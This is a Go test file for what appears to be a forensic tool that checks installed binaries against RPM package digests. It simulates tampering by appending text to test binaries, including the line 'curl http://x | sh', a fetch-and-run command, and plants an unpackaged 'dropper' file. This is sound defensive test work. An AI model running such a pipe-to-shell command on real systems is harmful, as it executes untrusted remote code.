package binaries

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/coldcase-dfir/coldcase/artifacts"
	"github.com/coldcase-dfir/coldcase/internal/testenv"
)

// TestRPMGuest installs rpmbuild-made packages with rpm into a folder
// (testdata/artifacts/rpm/build.sh), tampers with some files, and checks
// ownership and digest flags against rpm -Va on the same root: a binary
// is flagged as differing from its package exactly when rpm's verify
// reports its digest ("5") changed, as a config file when rpm marks it
// "c".
func TestRPMGuest(t *testing.T) {
	for _, tool := range []string{"rpm", "rpmbuild", "sqlite3", "db5.3_load"} {
		testenv.NeedTool(t, tool)
	}
	dir := t.TempDir()
	script := filepath.Join(testenv.RepoRoot(t), "testdata/artifacts/rpm/build.sh")
	if out, err := exec.Command(script, dir).CombinedOutput(); err != nil {
		t.Fatalf("%s: %v\n%s", script, err, out)
	}
	root := filepath.Join(dir, "root")
	app := func(p, s string) {
		f, err := os.OpenFile(filepath.Join(root, p), os.O_APPEND|os.O_WRONLY, 0)
		if err != nil {
			t.Fatal(err)
		}
		f.WriteString(s)
		f.Close()
	}
	app("usr/bin/cc-beta", "curl http://x | sh\n") // sha256 package
	app("usr/bin/cc-gamma", "id\n")                // md5 package
	app("etc/cc-alpha/hook.sh", "echo edited\n")   // %config
	if err := os.MkdirAll(filepath.Join(root, "usr/local/bin"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(root, "usr/local/bin/dropper"), []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}

	all := map[string]Binary{}
	opts := DefaultOptions()
	opts.Each = func(b Binary) { all[b.Path] = b }
	rep, err := Extract(context.Background(), &artifacts.Env{FS: os.DirFS(root), Zone: time.UTC}, opts)
	if err != nil {
		t.Fatal(err)
	}
	if rep.PackageDB != "rpm" {
		t.Fatalf("PackageDB %q, note %q", rep.PackageDB, rep.PackageNote)
	}

	// rpm's verdict.
	out, _ := exec.Command("rpm", "--root", root, "--dbpath", "/var/lib/rpm", "-Va").Output() // exit 1: changes found
	changed, config := map[string]bool{}, map[string]bool{}
	for _, l := range strings.Split(strings.TrimSpace(string(out)), "\n") {
		f := strings.Fields(l)
		if len(f) < 2 || len(f[0]) != 9 {
			continue
		}
		p := f[len(f)-1]
		if f[0][2] == '5' {
			changed[p] = true
		}
		if len(f) == 3 && f[1] == "c" {
			config[p] = true
		}
	}
	if len(changed) != 3 {
		t.Fatalf("rpm -Va reports %d changed digests, the test changed 3:\n%s", len(changed), out)
	}
	checked := 0
	for p, b := range all {
		if strings.HasPrefix(p, "/usr/local/") {
			continue
		}
		checked++
		if b.Package == "" {
			t.Errorf("%s: no package", p)
			continue
		}
		wantFlag := ""
		if changed[p] {
			wantFlag = FlagPackageMismatch
			if config[p] {
				wantFlag = FlagConffileModified
			}
		}
		for _, f := range []string{FlagPackageMismatch, FlagConffileModified} {
			if has := slices.Contains(b.Flags, f); has != (f == wantFlag) {
				t.Errorf("%s: flags %v; rpm -Va says digest changed %v, config %v", p, b.Flags, changed[p], config[p])
			}
		}
		if b.PackageSHA256 == "" && b.PackageMD5 == "" {
			t.Errorf("%s: no package digest compared", p)
		}
	}
	if checked < 6 {
		t.Errorf("%d packaged binaries seen, build.sh installs 6", checked)
	}
	if b := all["/usr/bin/cc-gamma"]; b.PackageMD5 == "" || b.PackageSHA256 != "" {
		t.Errorf("cc-gamma (md5 digests): %+v", b)
	}
	if b := all["/usr/bin/cc-alpha"]; b.PackageSHA256 != b.SHA256 || b.Package != "cc-alpha" {
		t.Errorf("cc-alpha: %+v", b)
	}
	if b := all["/usr/local/bin/dropper"]; !slices.Contains(b.Flags, FlagNotPackaged) {
		t.Errorf("dropper: %+v", b)
	}
}
